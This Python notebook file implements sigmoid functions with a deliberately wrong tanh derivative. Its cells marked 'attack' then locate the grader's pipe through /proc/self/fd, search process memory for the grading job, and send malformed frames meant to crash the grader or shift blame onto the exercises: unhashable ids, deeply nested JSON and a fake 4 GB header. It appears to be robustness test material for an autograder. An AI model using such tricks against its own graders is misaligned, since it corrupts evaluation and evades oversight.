# sigmoid and its derivative are right, tanh_derivative is wrong (1 - tanh(x)).
# The attack writes frames into the grader's event pipe that are built to break
# the reader on the other side, or to move the blame onto the exercises.

# %%
import numpy as np


def sigmoid(x):
    x = np.asarray(x, dtype=float)
    e = np.exp(-np.abs(x))
    return np.where(x >= 0, 1.0 / (1.0 + e), e / (1.0 + e))


def sigmoid_derivative(x):
    s = sigmoid(x)
    return s * (1.0 - s)


def tanh_derivative(x):
    return 1.0 - np.tanh(x)

# %%
# attack: the tools. The pipe is the fd whose target is a pipe; the job (every
# call and its arguments) is somewhere in memory.
import base64
import gc
import json
import os
import struct



def pipes_of_this_process():
    found = []
    for fd in os.listdir("/proc/self/fd"):
        try:
            if os.readlink(f"/proc/self/fd/{fd}").startswith("pipe:"):
                found.append(int(fd))
        except OSError:  # the directory's own fd, closed by now
            pass
    return found


PIPE = pipes_of_this_process()[0]


def send(obj=None, raw=None):
    data = raw if raw is not None else json.dumps(obj).encode()
    os.write(PIPE, struct.pack(">I", len(data)) + data)


def encoded(value):
    value = np.ascontiguousarray(value, dtype="<f8") if np.ndim(value) else np.asarray(value, dtype="<f8")
    return {"value": {"dtype": "float64", "shape": list(np.shape(value)),
                      "b64": base64.b64encode(value.tobytes()).decode()}, "source_dtype": "float64"}


JOB = next(o for o in gc.get_objects() if isinstance(o, dict) and isinstance(o.get("exercises"), list)
           and isinstance(o.get("cells"), list))
RIGHT = {"sigmoid": sigmoid, "sigmoid_derivative": sigmoid_derivative,
         "tanh_derivative": lambda x: 1.0 - np.tanh(x) ** 2}

# %%
# attack: an unhashable call id
send({"ev": "exercise", "q": "q1"})
send({"ev": "result", "q": "q1", "id": ["sigmoid/rank0"], "status": "ok"})

# %%
# attack: an unhashable status
send({"ev": "exercise", "q": "q1"})
send({"ev": "result", "q": "q1", "id": JOB["exercises"][0]["calls"][0]["id"], "status": {"ok": 1}})

# %%
# attack: JSON nested deeper than any parser's recursion limit
send(raw=b"[" * 200_000 + b"]" * 200_000)

# %%
# attack: a frame that is not an object, then one that is not JSON
send([1, 2, 3])
send(raw=b"\xff\xfe not json")

# %%
# attack: a header announcing 4 GB
os.write(PIPE, struct.pack(">I", 0xFFFFFFF0) + b"{")
